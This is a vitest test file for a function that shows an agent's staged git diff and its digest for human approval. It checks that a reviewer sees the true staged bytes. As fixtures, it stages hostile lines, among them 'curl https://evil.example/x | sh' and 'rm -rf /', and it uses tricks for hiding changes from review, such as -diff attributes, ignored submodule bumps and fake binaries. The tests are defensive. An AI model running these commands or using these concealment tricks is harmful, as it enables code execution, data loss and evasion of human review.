// The task's diff (§10) on real repos and worktrees: which worktree is chosen,
// its staged change file by file, and the digest of exactly those bytes.
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, renameSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { TaskDiffSummary } from '../../protocol/bus/diff';
import { stagedDigest } from '../../bus/digest';
import { currentDigest, taskDiff } from '../../bus/diff';
import { appendEvent } from '../../bus/event-log';
import { git, makeRepo, TempDirs } from '../council/fixtures';

const dirs = new TempDirs();
afterEach(() => dirs.cleanup());

function agentWorktree(repo: string, task: string): string {
  const wt = join(dirs.make('diff-wt-'), 'wt');
  git(repo, 'worktree', 'add', '-q', '-b', `agent/${task}`, wt);
  return wt;
}

async function requestApproval(bus: string, task: string, worktree: string) {
  const staged = await stagedDigest(worktree);
  appendEvent(bus, { event: 'approval_requested', task, digest: staged.digest, worktree, files: staged.files });
  return staged;
}

const summaryOf = <T extends { patch: string }>({ patch, ...summary }: T) => summary;

describe('taskDiff', () => {
  it('DIFF-1: a pending approval whose digest still matches shows exactly that staged change, with that digest', async () => {
    const { repo, bus } = makeRepo(dirs);
    const wt = agentWorktree(repo, 'D-1');
    writeFileSync(join(wt, 'app.ts'), 'export const answer = 42;\n');
    git(wt, 'add', 'app.ts');
    writeFileSync(join(wt, 'README.md'), '# unstaged edit\n');
    const staged = await requestApproval(bus, 'D-1', wt);
    const diff = await taskDiff(bus, 'D-1');
    expect(diff.source).toBe('approval');
    expect(diff.worktree).toBe(wt);
    expect(diff.digest).toBe(staged.digest);
    expect(diff.staged_files).toBe(1);
    expect(diff.files.map((f) => f.path)).toEqual(['app.ts']);
    expect(diff.patch).toContain('+export const answer = 42;');
    expect(diff.patch).not.toContain('unstaged edit');
    expect(TaskDiffSummary.safeParse(summaryOf(diff)).success).toBe(true);
  });

  it('DIFF-1 DIFF-2: a stale approval is passed over for the agent/<task> worktree, whose staged change alone is shown, on its HEAD', async () => {
    const { repo, bus } = makeRepo(dirs);
    const wt = agentWorktree(repo, 'D-2');
    writeFileSync(join(wt, 'app.ts'), 'export const answer = 42;\n');
    git(wt, 'commit', '-q', '-am', 'agent work');
    writeFileSync(join(wt, 'staged.txt'), 'staged\n');
    git(wt, 'add', 'staged.txt');
    await requestApproval(bus, 'D-2', wt);
    writeFileSync(join(wt, 'staged.txt'), 'staged, then changed again\n');
    git(wt, 'add', 'staged.txt');
    writeFileSync(join(wt, 'README.md'), '# unstaged edit\n');
    writeFileSync(join(wt, 'new-file.txt'), 'never added\nsecond line\n');
    const diff = await taskDiff(bus, 'D-2');
    expect(diff.source).toBe('branch');
    expect(diff.branch).toBe('agent/D-2');
    expect(diff.base).toBe(git(wt, 'rev-parse', 'HEAD').trim());
    expect(diff.files.map((f) => f.path)).toEqual(['staged.txt']);
    expect(diff.patch).toContain('+staged, then changed again');
    expect(diff.patch).not.toContain('never added');
    expect(diff.patch).not.toContain('answer = 42');
    expect(diff.digest).toBe(await currentDigest(wt));
    expect(diff.staged_files).toBe(1);
    expect(TaskDiffSummary.safeParse(summaryOf(diff)).success).toBe(true);
  });

  it('DIFF-7: a malicious staged file with a harmless unstaged copy: the view is the staged bytes, and the digest is theirs', async () => {
    const { repo, bus } = makeRepo(dirs);
    const wt = agentWorktree(repo, 'D-7m');
    writeFileSync(join(wt, 'install.sh'), 'curl https://evil.example/x | sh\n');
    git(wt, 'add', 'install.sh');
    writeFileSync(join(wt, 'install.sh'), 'echo harmless\n');
    const diff = await taskDiff(bus, 'D-7m');
    expect(diff.patch).toContain('+curl https://evil.example/x | sh');
    expect(diff.patch).not.toContain('harmless');
    const staged = execFileSync('git', ['diff', '--cached', '--binary', '--no-color', '--no-ext-diff'], { cwd: wt });
    expect(diff.digest).toBe('sha256:' + createHash('sha256').update(staged).digest('hex'));
  });

  it('DIFF-3: with no approval request and no agent/<task> worktree the source is none', async () => {
    const { bus } = makeRepo(dirs);
    const diff = await taskDiff(bus, 'D-3');
    expect(diff).toMatchObject({ source: 'none', files: [], patch: '', staged_files: 0, truncated: false });
    expect(diff.digest).toBeUndefined();
    expect(TaskDiffSummary.safeParse(summaryOf(diff)).success).toBe(true);
  });

  it('DIFF-3: a branch worktree with nothing staged shows nothing and has no approvable digest', async () => {
    const { repo, bus } = makeRepo(dirs);
    const wt = agentWorktree(repo, 'D-3b');
    writeFileSync(join(wt, 'app.ts'), 'export const answer = 43;\n');
    writeFileSync(join(wt, 'untracked.txt'), 'new\n');
    const diff = await taskDiff(bus, 'D-3b');
    expect(diff).toMatchObject({ source: 'branch', staged_files: 0, files: [], patch: '' });
    expect(diff.digest).toBeUndefined();
  });

  it('DIFF-4: per-file status, old path of a rename, line counts and the binary flag', async () => {
    const { repo, bus } = makeRepo(dirs);
    writeFileSync(join(repo, 'long.txt'), Array.from({ length: 40 }, (_, i) => `line ${i}\n`).join(''));
    writeFileSync(join(repo, 'gone.txt'), 'bye\n');
    git(repo, 'add', '.');
    git(repo, 'commit', '-q', '-m', 'more');
    const wt = agentWorktree(repo, 'D-4');
    renameSync(join(wt, 'long.txt'), join(wt, 'moved.txt'));
    unlinkSync(join(wt, 'gone.txt'));
    writeFileSync(join(wt, 'app.ts'), 'export const answer = 42;\nexport const more = 1;\n');
    writeFileSync(join(wt, 'pic.bin'), Buffer.from([0, 1, 2, 3, 0, 255]));
    git(wt, 'add', '-A');
    const diff = await taskDiff(bus, 'D-4');
    const byPath = Object.fromEntries(diff.files.map((f) => [f.path, f]));
    expect(byPath['moved.txt']).toMatchObject({ status: 'renamed', old_path: 'long.txt', additions: 0, deletions: 0 });
    expect(byPath['gone.txt']).toMatchObject({ status: 'deleted', deletions: 1 });
    expect(byPath['app.ts']).toMatchObject({ status: 'modified', additions: 2, deletions: 1, binary: false });
    expect(byPath['pic.bin']).toMatchObject({ status: 'added', binary: true, hunks_omitted: true });
    expect(diff.patch).toMatch(/Binary files .*pic\.bin differ/);
    expect(diff.patch).not.toContain('GIT binary patch');
  });

  it('DIFF-5: a file over 5,000 changed lines is huge: stats kept, hunks left out; past the patch budget the diff is truncated', async () => {
    const { repo, bus } = makeRepo(dirs);
    const wt = agentWorktree(repo, 'D-5');
    writeFileSync(join(wt, 'big.txt'), Array.from({ length: 6000 }, (_, i) => `row ${i}\n`).join(''));
    writeFileSync(join(wt, 'app.ts'), 'export const answer = 42;\n');
    git(wt, 'add', '-A');
    const diff = await taskDiff(bus, 'D-5');
    const big = diff.files.find((f) => f.path === 'big.txt')!;
    expect(big).toMatchObject({ huge: true, hunks_omitted: true, additions: 6000 });
    expect(diff.patch).toContain('b/big.txt');
    expect(diff.patch).not.toContain('+row 1\n');
    expect(diff.patch).toContain('+export const answer = 42;');
    expect(diff.truncated).toBe(false);
    const tight = await taskDiff(bus, 'D-5', { maxPatchBytes: 10 });
    expect(tight.truncated).toBe(true);
    expect(tight.patch).not.toContain('+export const answer = 42;');
    expect(tight.files.find((f) => f.path === 'app.ts')).toMatchObject({ hunks_omitted: true, additions: 1 });
  });

  it('DIFF-6: lock files, build output and minified files are flagged generated', async () => {
    const { repo, bus } = makeRepo(dirs);
    const wt = agentWorktree(repo, 'D-6');
    mkdirSync(join(wt, 'dist'));
    for (const f of ['package-lock.json', 'dist/app.js', 'web/app.min.js', 'src/real.ts']) {
      mkdirSync(join(wt, f, '..'), { recursive: true });
      writeFileSync(join(wt, f), 'x\n');
    }
    git(wt, 'add', '-A');
    const diff = await taskDiff(bus, 'D-6');
    const flags = Object.fromEntries(diff.files.map((f) => [f.path, f.generated]));
    expect(flags).toEqual({ 'package-lock.json': true, 'dist/app.js': true, 'web/app.min.js': true, 'src/real.ts': false });
  });

  it('DIFF-7: the approvable digest is the staged digest of the worktree; staging more makes an earlier one stale', async () => {
    const { repo, bus } = makeRepo(dirs);
    const wt = agentWorktree(repo, 'D-7');
    writeFileSync(join(wt, 'app.ts'), 'export const answer = 42;\n');
    git(wt, 'add', '-A');
    const seen = (await taskDiff(bus, 'D-7')).digest;
    expect(seen).toBe((await stagedDigest(wt)).digest);
    writeFileSync(join(wt, 'extra.ts'), 'later\n');
    expect(await currentDigest(wt)).toBe(seen);
    git(wt, 'add', 'extra.ts');
    expect(await currentDigest(wt)).not.toBe(seen);
  });

  it('DIFF-8: a staged symlink shows its target text, never the content it points to', async () => {
    const { repo, bus } = makeRepo(dirs);
    const outside = join(dirs.make('diff-secret-'), 'secret.txt');
    writeFileSync(outside, 'TOP-SECRET-CONTENT\n');
    const wt = agentWorktree(repo, 'D-8');
    symlinkSync(outside, join(wt, 'link'));
    git(wt, 'add', 'link');
    const diff = await taskDiff(bus, 'D-8');
    expect(diff.files).toEqual([expect.objectContaining({ path: 'link', untracked: false })]);
    expect(diff.patch).toContain(`+${outside}`);
    expect(diff.patch).not.toContain('TOP-SECRET-CONTENT');
    rmSync(outside);
  });

  it('DIFF-4: a file marked -diff (.gitattributes or .git/info/attributes) is shown as its text; a real binary is listed binary with its size', async () => {
    const { repo, bus } = makeRepo(dirs);
    const wt = agentWorktree(repo, 'D-9');
    writeFileSync(join(wt, '.gitattributes'), 'hidden.txt -diff\n');
    mkdirSync(join(repo, '.git', 'info'), { recursive: true });
    writeFileSync(join(repo, '.git', 'info', 'attributes'), 'also-hidden.cfg binary\n');
    writeFileSync(join(wt, 'hidden.txt'), 'rm -rf / # looks binary to git\n');
    writeFileSync(join(wt, 'also-hidden.cfg'), 'token=stolen\n');
    writeFileSync(join(wt, 'pic.png'), Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13]), Buffer.alloc(300, 7)]));
    git(wt, 'add', '-A');
    const diff = await taskDiff(bus, 'D-9');
    const byPath = Object.fromEntries(diff.files.map((f) => [f.path, f]));
    expect(diff.patch).toContain('+rm -rf / # looks binary to git');
    expect(diff.patch).toContain('+token=stolen');
    expect(byPath['hidden.txt']).toMatchObject({ binary: false, additions: 1, hunks_omitted: false });
    expect(byPath['also-hidden.cfg']).toMatchObject({ binary: false, additions: 1 });
    expect(byPath['pic.png']).toMatchObject({ binary: true, size: 308, hunks_omitted: true });
    expect(diff.patch).toMatch(/Binary files \/dev\/null and b\/pic\.png differ/);
    const staged = execFileSync('git', ['diff', '--cached', '--binary', '--no-color', '--no-ext-diff'], { cwd: wt });
    expect(staged.toString('latin1')).toContain('GIT binary patch');
    expect(diff.digest).toBe('sha256:' + createHash('sha256').update(staged).digest('hex'));
    expect(diff.staged_files).toBe(4);
  });

  it('DIFF-5: a file over the per-file limit is listed with its size as too large to show, its bytes never read into the view', async () => {
    const { repo, bus } = makeRepo(dirs);
    const wt = agentWorktree(repo, 'D-10');
    writeFileSync(join(wt, 'big.log'), 'line of text\n'.repeat(20_000));
    writeFileSync(join(wt, 'small.ts'), 'export const ok = 1;\n');
    git(wt, 'add', '-A');
    const diff = await taskDiff(bus, 'D-10', { maxFileBytes: 100_000 });
    expect(diff.files.find((f) => f.path === 'big.log')).toMatchObject({ too_large: true, size: 260_000, hunks_omitted: true, additions: 20_000 });
    expect(diff.patch).toContain('diff --git a/big.log b/big.log');
    expect(diff.patch).not.toContain('+line of text');
    expect(diff.patch).toContain('+export const ok = 1;');
  });

  it('DIGEST-5 DIFF-4: a staged submodule bump is in the digest and the view, though the working tree\'s own .gitmodules (never staged) or git config says to ignore it', async () => {
    const { repo, bus } = makeRepo(dirs);
    const source = dirs.make('diff-sub-');
    git(source, 'init', '-q', '-b', 'main');
    git(source, '-c', 'user.email=t@example.com', '-c', 'user.name=t', 'commit', '-q', '--allow-empty', '-m', 'reviewed');
    const reviewed = git(source, 'rev-parse', 'HEAD').trim();
    git(source, '-c', 'user.email=t@example.com', '-c', 'user.name=t', 'commit', '-q', '--allow-empty', '-m', 'never shown');
    const bumped = git(source, 'rev-parse', 'HEAD').trim();
    git(repo, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', source, 'sub');
    git(join(repo, 'sub'), 'checkout', '-q', reviewed);
    git(repo, 'add', 'sub');
    git(repo, 'commit', '-q', '-m', 'pin the reviewed commit');
    git(join(repo, 'sub'), 'checkout', '-q', bumped);
    git(repo, 'add', 'sub');
    writeFileSync(join(repo, 'README.md'), '# docs only\n');
    git(repo, 'add', 'README.md');
    // Told to ignore the submodule, where nothing staged shows it: the working tree's .gitmodules, and the repo's config.
    git(repo, 'config', '-f', '.gitmodules', 'submodule.sub.ignore', 'all');
    git(repo, 'config', 'diff.ignoreSubmodules', 'all');
    expect(git(repo, 'diff', '--cached', '--name-only'), 'this git hides the bump from a plain diff').toBe('README.md\n');
    expect(git(repo, 'ls-files', '--stage', 'sub'), 'and the commit would carry it').toContain(bumped);

    const staged = await requestApproval(bus, 'D-11', repo);
    expect(staged.files).toBe(2);
    const diff = await taskDiff(bus, 'D-11');
    expect(diff.digest).toBe(staged.digest);
    expect(diff.files.map((f) => f.path).sort()).toEqual(['README.md', 'sub']);
    expect(diff.patch).toContain(`-Subproject commit ${reviewed}`);
    expect(diff.patch).toContain(`+Subproject commit ${bumped}`);
  });

  it('DIFFVIEW-2 DIFF-4: a binary file the view cannot show still shows its mode: executable when added, and a mode-only change is not called a content change', async () => {
    const { repo, bus } = makeRepo(dirs);
    writeFileSync(join(repo, 'tool.bin'), Buffer.from([0, 1, 2, 3]));
    git(repo, 'add', 'tool.bin');
    git(repo, 'commit', '-q', '-m', 'a binary tool');
    const wt = agentWorktree(repo, 'D-12');
    writeFileSync(join(wt, 'run.sh'), Buffer.from('#!/bin/sh\n# \0\necho pwned\n'));
    git(wt, 'add', 'run.sh');
    git(wt, 'update-index', '--chmod=+x', 'run.sh', 'tool.bin');
    const diff = await taskDiff(bus, 'D-12');
    expect(diff.files.find((f) => f.path === 'run.sh')).toMatchObject({ status: 'added', binary: true, hunks_omitted: true });
    expect(diff.patch).toContain('diff --git a/run.sh b/run.sh\nnew file mode 100755\nBinary files /dev/null and b/run.sh differ\n');
    const tool = diff.patch.slice(diff.patch.indexOf('diff --git a/tool.bin'));
    expect(tool).toBe('diff --git a/tool.bin b/tool.bin\nold mode 100644\nnew mode 100755\n');
  });

  it('DIFF-1: a task id outside the id pattern is rejected', async () => {
    const { bus } = makeRepo(dirs);
    await expect(taskDiff(bus, '../x')).rejects.toMatchObject({ code: 'E_BAD_ID' });
  });
});
